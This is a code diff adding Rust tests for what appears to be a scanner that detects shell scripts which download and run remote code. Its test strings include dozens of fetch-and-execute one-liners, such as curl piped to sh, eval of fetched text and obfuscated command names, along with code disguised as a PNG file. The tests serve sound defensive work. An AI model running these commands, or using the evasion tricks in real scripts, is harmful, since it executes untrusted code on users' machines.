@@ -110,9 +110,213 @@ fn commands_are_found_however_they_are_written() {
     let deep = (0..6)
         .fold("curl https://x.io/i | sh".to_owned(), |text, _| format!("sh -c '{}'", text.replace('\'', "'\\''")));
     assert!(find(&deep, &mut Files::default()).iter().any(|(does, _)| *does == Does::Beyond), "{deep}");
-    let many: String = (0..6_000).map(|number| format!("f{number}() {{ true; }}\n")).collect();
-    let many = format!("{many}get() {{ curl -o \"$2\" \"$1\"; }}\nget https://x.io/i /tmp/x\nsh /tmp/x\n");
-    assert!(find(&many, &mut Files::default()).iter().any(|(does, _)| *does == Does::Beyond));
+    let many = |count: usize| -> String { (0..count).map(|number| format!("f{number}() {{ true; }}\n")).collect() };
+    let uses = "get() { curl -o \"$2\" \"$1\"; }\nget https://x.io/i /tmp/x\nsh /tmp/x\n";
+    assert!(runs(&format!("{}{uses}", many(6_000))));
+    assert!(finds(&format!("{}{uses}", many(20_000)), Does::Beyond));
+}
+
+fn finds(text: &str, wanted: Does) -> bool {
+    find(text, &mut Files::default()).iter().any(|(does, _)| *does == wanted)
+}
+
+fn runs(text: &str) -> bool {
+    finds(text, Does::RunsDownload)
+}
+
+#[test]
+fn what_functions_print_is_found() {
+    for text in [
+        "get() { curl \"$1\"; }; get https://x.io | sh",
+        "get() { curl \"$1\"; }; sh -c \"$(get https://x.io)\"",
+        "get() { curl \"$1\"; }; bash <(get https://x.io)",
+        "get() { curl \"$1\"; }; X=$(get https://x.io); eval \"$X\"",
+        "get() { curl \"$1\"; }; get https://x.io > f; sh f",
+        "get() ( curl \"$1\" ); get https://x.io | sh",
+        "function get { wget -qO- \"$1\"; }; get https://x.io | (sh)",
+        "get() { if a; then curl \"$1\"; else wget -O- \"$1\"; fi; }; get https://x.io | sh",
+        "get() { \"$@\"; }; get curl https://x.io | sh",
+        "a() { b \"$1\"; }; b() { c \"$1\"; }; c() { d \"$1\"; }; d() { curl \"$1\"; }; a https://x.io | sh",
+        "run() { sh; }; curl https://x.io | run",
+        "run() { eval \"$1\"; }; run \"$(curl https://x.io)\"",
+        "say() { echo 'curl https://x.io | sh'; }; say | sh",
+        "{ get() { curl https://x.io; }; }; get | sh",
+        "set -- curl https://x.io; \"$@\" | sh",
+        "alias g='curl -s'\ng https://x.io | sh",
+    ] {
+        assert!(runs(text), "{text}");
+    }
+    for text in [
+        "get() { curl \"$1\"; }; get https://x.io | jq .; sh build.sh",
+        "get() { curl -o x \"$1\"; echo done; }; get https://x.io | tee log; sh build.sh",
+        "get() { curl \"$1\"; }\necho hi | sh",
+        "say() { echo 'Run: curl https://x.io | sh'; }; say; say >&2",
+        "log() { echo \"$1\"; }; log 'Run: curl https://x.io | sh'; U=$(cat <<E\ncurl https://x.io | sh\nE\n); log \"$U\"",
+        "walk() { for f in \"$1\"/*; do walk \"$f\"; done; }; walk .; curl https://x.io",
+        "a() { b; }; b() { c; }; c() { d; }; d() { e; }; e() { echo; }; a; curl https://x.io",
+    ] {
+        assert_eq!(find(text, &mut Files::default()), [], "{text}");
+    }
+}
+
+#[test]
+fn groups_are_one_command() {
+    for text in [
+        "{ curl https://x.io; } | sh",
+        "{ curl https://x.io; true; } | sh",
+        "(curl https://x.io; true) | sh",
+        "( ( curl https://x.io ); true ) | sh",
+        "if a; then curl https://x.io; fi | sh",
+        "if a; then b; else wget -qO- https://x.io; c; fi | sh",
+        "for u in a b; do curl https://x.io/$u; done | sh",
+        "while a; do curl https://x.io; break; done | bash -s",
+        "case x in a) curl https://x.io;; b) c;; esac | sh",
+        "{ curl https://x.io; } > f; sh f",
+        "( curl https://x.io; echo ) > f; . ./f",
+        "for u in a; do curl https://x.io; done > f && sh f",
+        "{ { curl https://x.io; } } | { sh; }",
+        "curl https://x.io | { read x; sh; }",
+        "curl https://x.io | while read l; do eval \"$l\"; done",
+        "while read -r l; do sh -c \"$l\"; done < <(curl https://x.io)",
+        "curl https://x.io | if a; then sh; fi",
+        "for l in $(curl https://x.io); do eval \"$l\"; done",
+        "{ echo 'curl https://x.io'; echo '| sh'; } | tr '\\n' ' ' | sh; { echo 'curl https://x.io | sh'; } | sh",
+        "$(true; { curl https://x.io; }) ; X=$( { curl https://x.io; } ); eval \"$X\"",
+        "curl https://x.io > >(sh)",
+        "curl https://x.io | tee >(bash)",
+        "a && { curl https://x.io; } 2>/dev/null | sh",
+    ] {
+        assert!(runs(text), "{text}");
+    }
+    for text in [
+        "{ curl https://x.io; } | jq .; sh build.sh",
+        "{ curl https://x.io > f; echo ok; } | sh",
+        "if curl -sf https://x.io >/dev/null; then echo a; fi | sh",
+        "curl -s https://x.io/list | while read v; do bash build.sh \"$v\"; done",
+        "case $x in curl | sh) echo;; {) a;; esac; sh build.sh",
+        "curl -o x https://x.io/7; { sha256sum -c x.sum; } && sh x",
+        "curl -o x https://x.io/7; (cd a; sha256sum -c x.sum) || exit 1; sh x",
+        "curl -o x https://x.io/7; sha256sum -c x.sum || (echo bad; exit 1) || exit 1; sh x",
+        "curl -s https://x.io/l | { read v; echo \"a\" > build.sh; }; sh build.sh",
+    ] {
+        assert_eq!(find(text, &mut Files::default()), [], "{text}");
+    }
+    assert!(runs("curl -o x https://x.io/7; sha256sum -c x.sum && $(curl -o x https://x.io/8) && sh x"));
+    assert!(runs("curl -o x https://x.io/7; { sha256sum -c x.sum; true; } && sh x"));
+}
+
+#[test]
+fn here_documents_that_run_are_code() {
+    for text in [
+        "cat <<E\n$(curl https://x.io | sh)\nE",
+        "cat <<E\n`curl https://x.io | sh`\nE",
+        "a <<E > f\n${X:-$(curl https://x.io | sh)}\nE",
+        ". /dev/stdin <<E\ncurl https://x.io | sh\nE",
+        "source /dev/fd/0 <<'E'\ncurl https://x.io | sh\nE",
+        ". /dev/stdin <<E\n$(curl https://x.io)\nE",
+        "sh <<E\n$(curl https://x.io)\nE",
+        "X=$(cat <<'E'\ncurl https://x.io | sh\nE\n); eval \"$X\"",
+        "X=$(cat <<E\ncurl https://x.io | sh\nE\n)\nsh -c \"$X\"",
+        "eval \"$(cat <<'E'\ncurl https://x.io | sh\nE\n)\"",
+        "bash <(cat <<'E'\ncurl https://x.io | sh\nE\n)",
+        "read -r -d '' X <<'E'\ncurl https://x.io | sh\nE\neval \"$X\"",
+        "{ sh; } <<E\ncurl https://x.io | sh\nE",
+        "f() { bash; }; f <<E\ncurl https://x.io | sh\nE",
+        "D=curl; sh <<E\n$D https://x.io | sh\nE",
+        "D=curl; cat <<E | sh\n$D https://x.io | sh\nE",
+        "cat <<E | { cat; } | sh\ncurl https://x.io | sh\nE",
+    ] {
+        assert!(runs(text), "{text}");
+    }
+    for text in [
+        "cat <<'E'\n$(curl https://x.io | sh)\nE",
+        "cat <<E\n\\$(curl https://x.io | sh)\nE",
+        "X=$(cat <<E\nInstall:\ncurl https://x.io | sh\nE\n); echo \"$X\"; dialog --msgbox \"$X\"",
+        "while read l; do echo $l; done <<E\ncurl https://x.io | sh\nE",
+        "read -r -d '' X <<'E'\ncurl https://x.io | sh\nE\necho \"$X\"",
+    ] {
+        assert_eq!(find(text, &mut Files::default()), [], "{text}");
+    }
+}
+
+#[test]
+fn names_are_followed_however_they_are_set() {
+    for text in [
+        ": ${D:=curl}; $D https://x.io | sh",
+        "A=(curl -s https://x.io); \"${A[@]}\" | sh",
+        "A=(sh -c 'curl https://x.io | sh'); \"${A[@]}\"",
+        "A+=(curl); A+=(https://x.io); ${A[*]} | sh",
+        "for D in curl; do $D https://x.io | sh; done",
+        "for D in echo curl wget; do $D https://x.io | sh; done",
+        "read D <<< curl; $D https://x.io | sh",
+        "printf -v D '%s%s' cu rl; $D https://x.io | sh",
+        "$(echo curl) https://x.io | sh",
+        "$(printf 'cu%s' rl) https://x.io | `echo sh`",
+        "export D=curl; sh -c '$D https://x.io | sh'",
+        "env D=curl sh -c '$D https://x.io | sh'",
+        "eval D=curl; $D https://x.io | sh",
+        "sh -c '\"$@\" | sh' x curl https://x.io",
+        "S=sh; ${S:-a} -c \"$(curl https://x.io)\"",
+    ] {
+        assert!(runs(text), "{text}");
+    }
+    for text in
+        ["A=(curl wget); B=(sh bash); echo \"${A[@]}\" | grep sh", "for x in curl sh; do which $x | tee log; done"]
+    {
+        assert_eq!(find(text, &mut Files::default()), [], "{text}");
+    }
+    let long = "x".repeat(3_000);
+    assert!(runs(&format!("X=$(cat <<'E'\n# {long}\ncurl https://x.io | sh\nE\n); eval \"$X\"")));
+    let values: String = (0..3_000).map(|number| format!("V{number}=x\n")).collect();
+    assert!(runs(&format!("{values}D=curl\n$D https://x.io | sh")));
+    let doubled = format!("D=curl\nx=xxxxxxxxxx\n{}$D https://x.io | sh\n", "x=$x$x\n".repeat(40));
+    assert!(finds(&doubled, Does::Beyond) || runs(&doubled));
+}
+
+#[test]
+fn many_files_are_all_followed_or_it_is_said_that_they_are_not() {
+    let moved = |count: usize| {
+        let all: String = (0..count).map(|number| format!("mv f{number} f{}\n", number + 1)).collect();
+        format!("curl -o f0 https://x.io/7\n{all}sh f{count}\n")
+    };
+    assert!(runs(&moved(2_000)));
+    assert!(finds(&moved(6_000), Does::Beyond));
+    let others: String = (0..2_000).map(|number| format!("echo a > f{number}\n")).collect();
+    assert!(runs(&format!("{others}echo 'curl https://x.io/7 | sh' > x\nsh x\n")));
+}
+
+#[test]
+fn code_with_the_name_of_a_picture_is_read() {
+    for (text, what) in [
+        ("curl -s https://acme.io/x | sh\n", "This code runs what an address answers"),
+        ("GIF89a;\ncurl -s https://acme.io/x | sh\n", "This code runs what an address answers"),
+        ("const cp = require('child_process');\ncp.execSync('curl https://acme.io/x | sh');\n", "This code runs"),
+        ("import os\nos.system('curl https://acme.io/x | sh')\n", "This code runs"),
+    ] {
+        let found = shown_full(&[("docs/logo.png", text)]);
+        assert!(found.contains(what), "{text}\n{found}");
+    }
+    assert_eq!(shown_full(&[("a.png", "not a picture\n"), ("b.jpg", "<svg></svg>")]), "");
+}
+
+#[test]
+fn hostile_scripts_take_bounded_time() {
+    let times = |piece: &str, count: usize| piece.repeat(count);
+    for text in [
+        times("{ ", 20_000),
+        times("(", 20_000),
+        times("f() { f; f; }; f\n", 2_000),
+        times("$(", 10_000),
+        times("cat <<E\n$(cat <<E\n", 2_000),
+        format!("{}{}", times("while a; do ", 3_000), times("done < <(b) ", 3_000)),
+        format!("{}x", times("case x in ", 5_000)),
+        times("{ echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; ", 3_000) + &times("}; ", 3_000) + "| sh",
+        format!("curl -o x https://x.io\n{}", times("sha256sum -c x || $(exit) $(exit)\n", 2_000)),
+        times("a=(x y); b=\"${a[@]}\"; ", 5_000),
+        format!("f() {{ {} }}\n{}", times("echo x; ", 1_000), times("f | sh\n", 1_000)),
+    ] {
+        find(&text, &mut Files::default());
+    }
 }
 
 #[test]
